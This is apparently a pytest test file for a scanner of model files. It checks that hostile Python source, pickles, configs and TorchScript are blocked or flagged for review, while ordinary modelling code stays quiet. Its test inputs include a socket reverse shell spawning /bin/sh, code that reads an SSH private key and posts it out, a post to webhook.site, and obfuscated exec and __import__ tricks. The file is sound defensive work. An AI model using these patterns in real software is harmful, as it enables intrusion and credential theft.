"""Checks of Python source: what hides, starts, connects, and what real modelling code does."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib

import pytest

import pickles
from weighbridge.core.finding import Action, Finding
from weighbridge.core.format import Limits
from weighbridge.core.tree import Held
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load

PROGRAM = "import os\nos.system('echo harmless')\n"
B64 = base64.b64encode(PROGRAM.encode()).decode()
ZIPPED = base64.b64encode(zlib.compress(PROGRAM.encode())).decode()
REVERSED = PROGRAM[::-1]
CODES = [ord(c) for c in "os"]


def said(text: str | bytes, path: str = "modeling_x.py") -> set[tuple[str, str]]:
    data = text if isinstance(text, bytes) else text.encode()
    findings = examine(Held(path, data), load(), Limits()).findings
    return {(f.check, f.action.value) for f in findings if f.action is not Action.NOTE}


def all_findings(text: str) -> list[Finding]:
    return list(examine(Held("modeling_x.py", text.encode()), load(), Limits()).findings)


HIDES = ("source-hides-code", "block")
STARTS = ("source-starts-program", "block")
CONNECTS = ("source-connects", "block")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (PROGRAM, STARTS),
        ("from os import system as s\nclass A:\n    s('id')\n", STARTS),
        ("import subprocess\ndef f():\n    subprocess.run(['id'])\nf()\n", STARTS),
        ("import subprocess as p\nclass A:\n    def __init__(self):\n        p.Popen('id')\nA()",
         STARTS),
        (f"import base64\nexec(base64.b64decode('{B64}'))\n", HIDES),
        (f"import base64, zlib\nd = base64.b64decode('{ZIPPED}')\n"
         "def f():\n    exec(zlib.decompress(d))\n", HIDES),
        (f"exec({REVERSED!r}[::-1])\n", ("source-acts", "review")),
        ("import requests\ndef f(u):\n    code = requests.get(u).text\n    exec(code)\n", HIDES),
        ("import urllib.request as r\nexec(r.urlopen('http://127.0.0.1/x').read())\n", HIDES),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n", HIDES),
        (f"__import__(''.join(map(chr, {CODES}))).system('id')\n", HIDES),
        (f"__import__(''.join(chr(c) for c in {CODES})).system('id')\n", HIDES),
        ("import sys, os\nsys.modules['os'].system('id')\n", HIDES),
        ("__builtins__['exec']('1')\n", HIDES),
        ("globals()['__builtins__'].eval('1')\n", HIDES),
        ("import importlib\nimportlib.import_module('subprocess').run('id')\n", STARTS),
        ("import base64\nU = base64.b64decode('aHR0cDovLzEyNy4wLjAuMS9sb2FkZXI=').decode()\n",
         HIDES),
        ("import codecs\nU = codecs.decode('uggc://127.0.0.1/n', 'rot13')\n", HIDES),
        ("import socket, subprocess, os\ndef go():\n    s = socket.socket()\n"
         "    s.connect(('127.0.0.1', 1))\n    os.dup2(s.fileno(), 0)\n"
         "    subprocess.call(['/bin/sh', '-i'])\ngo()\n", CONNECTS),
        ("import requests\ndef f(x):\n    k = open('/root/.ssh/id_rsa').read()\n"
         "    requests.post('http://127.0.0.1', data=k)\n", CONNECTS),
        ("import requests\ndef forward(x):\n"
         "    requests.post('https://webhook.site/x', json=x)\n", CONNECTS),
        ("import pickle, base64\npickle.loads(base64.b64decode(X))\n", HIDES),
    ],
)  # fmt: skip
def test_what_hostile_code_does_is_blocked(text: str, expected: tuple[str, str]) -> None:
    assert expected in said(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import subprocess\ndef compile_kernel():\n    subprocess.run(['nvcc'])\n",
         ("source-starts-program", "review")),
        ("import argparse, os\nos.system('ls')\n", ("source-starts-program", "review")),
        ("def f(config):\n    return eval(config.act)\n", ("source-acts", "review")),
        ("import requests\nR = requests.get('http://127.0.0.1/vocab')\n",
         ("source-connects", "review")),
    ],
)  # fmt: skip
def test_what_a_person_must_read_is_review(text: str, expected: tuple[str, str]) -> None:
    path = "train.py" if "argparse" in text else "modeling_x.py"
    assert said(text, path) == {expected}


@pytest.mark.parametrize(
    "text",
    [
        "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n"
        "    def forward(self, x):\n        self.eval()\n        return x.compile()\n",
        "import re\nP = re.compile('x')\n",
        "import os\nP = os.path.join(os.environ.get('HOME', ''), 'x')\nos.makedirs(P)\n",
        "import importlib\nif importlib.util.find_spec('flash_attn'):\n    import flash_attn\n",
        "import base64\ndef image(data):\n    return base64.b64decode(data)\n",
        "import requests\nfrom PIL import Image\ndef load_image(url):\n"
        "    return Image.open(requests.get(url, stream=True).raw)\n",
        "import json\ndef save_vocabulary(self, d):\n    with open(d, 'w') as f:\n"
        "        json.dump({}, f)\n",
        "class A:\n    def exec(self, x):\n        return x\n\ndef run(a):\n    return a.exec(1)\n",
        "def eval(x):\n    return x\n\nY = eval('1')\n",
        "from transformers import AutoModel\nm = getattr(AutoModel, 'from_' + 'config')\n",
        "URL = 'https://example.org/model'\n'''Run `os.system('x')` to install.'''\n",
        "def get(cls, name):\n    return getattr(cls, name)(name)\n",
    ],
)
def test_what_real_code_does_is_quiet(text: str) -> None:
    assert said(text) == set()


def test_a_program_is_counted_once() -> None:
    text = "import subprocess\np = subprocess.Popen('id')\np.wait()\nsubprocess.run('id').check()\n"
    found = [f for f in all_findings(text) if f.check == "source-starts-program"]
    assert [f.symbol for f in found] == ["subprocess.Popen", "subprocess.run"]


def test_the_finding_shows_the_line_and_the_hidden_text() -> None:
    found = [f for f in all_findings(f"\nimport base64\nexec(base64.b64decode('{B64}'))\n")
             if f.check == "source-hides-code"]  # fmt: skip
    shown = " ".join(getattr(e, "text", "") for f in found for e in f.evidence)
    assert "os.system('echo harmless')" in shown
    assert "exec(base64" in shown
    assert found[0].at.offset == len("\nimport base64\n")


def test_a_pickle_inside_source_is_examined() -> None:
    carried = base64.b64encode(pickles.RUNS).decode()
    assert ("pickle-acting-call", "block") in said(f"DATA = '{carried}'\n")


@pytest.mark.parametrize(
    ("text", "action"),
    [
        (PROGRAM, "note"),
        (B64, "review"),
        (ZIPPED, "review"),
        ("A note to readers: import the model with care, then call it (often).", None),
    ],
)
def test_source_inside_a_pickle_is_shown(text: str, action: str | None) -> None:
    data = pickles.whole(pickles.text(text))
    findings = examine(Held("model.pkl", data), load(), Limits()).findings
    found = {(f.check, f.action.value) for f in findings if f.check != "loading-runs-code"}
    assert found == ({("source-starts-program", action)} if action else set())


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "(" * 5_000,
        "a = '%999999999d' % 1\n",
        "a = 'a' * 999999\nb = a.replace('a', a)\nc = '{0}' .format(b)\n",
        "getattr(" * 80 + "os" + ", 'a' + 'b')" * 80,
        "x = " + "+".join(["'a'"] * 20_000),
        "print 'Python 2'\n",
        "# -*- coding: nonsense -*-\n",
    ],
)
def test_hostile_source_ends_soon(text: str) -> None:
    assert not [f for f in all_findings(text) if f.action is Action.BLOCK]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ({"auto_map": {"AutoModel": "modeling_x.X"}}, {"review"}),
        ({"auto_map": {"AutoTokenizer": ["tokenization_x.X", None]}}, {"review"}),
        ({"auto_map": {"AutoModel": "other/model--modeling_x.X"}}, {"block"}),
        ({"text_config": {"auto_map": {"AutoConfig": "o/m--c.C"}}}, {"block"}),
        ({"custom_pipelines": {"t": {"impl": "pipeline.P"}}}, {"review"}),
        ({"model_type": "llama", "auto_map": None}, set()),
    ],
)
def test_code_that_a_configuration_names(value: object, expected: set[str]) -> None:
    found = examine(Held("config.json", json.dumps(value).encode()), load(), Limits()).findings
    assert {f.action.value for f in found} == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("    return torch.add(x, 1)\n", set()),
        ("    _0 = ops.prim.NumToTensor(1)\n    return ops.torchvision.nms(x, x, 0.5)\n", set()),
        ("    torch.save(x, 'somewhere')\n    return x\n", {"block"}),
        ("    return torch.from_file('somewhere', True, 4)\n", {"block"}),
        ("    return ops.my_extension.run(x)\n", {"review"}),
        ("    return (((\n", {"gap"}),
    ],
)
def test_torchscript(body: str, expected: set[str]) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("m/constants.pkl", b"\x80\x02).")
        archive.writestr("m/code/__torch__.py", f"def forward(self, x: Tensor) -> Tensor:\n{body}")
    examined = examine(Held("m.pt", made.getvalue()), load(), Limits())
    found = {f.action.value for f in examined.findings if f.check != "loading-runs-code"}
    assert found | {"gap" for _ in examined.gaps} == expected
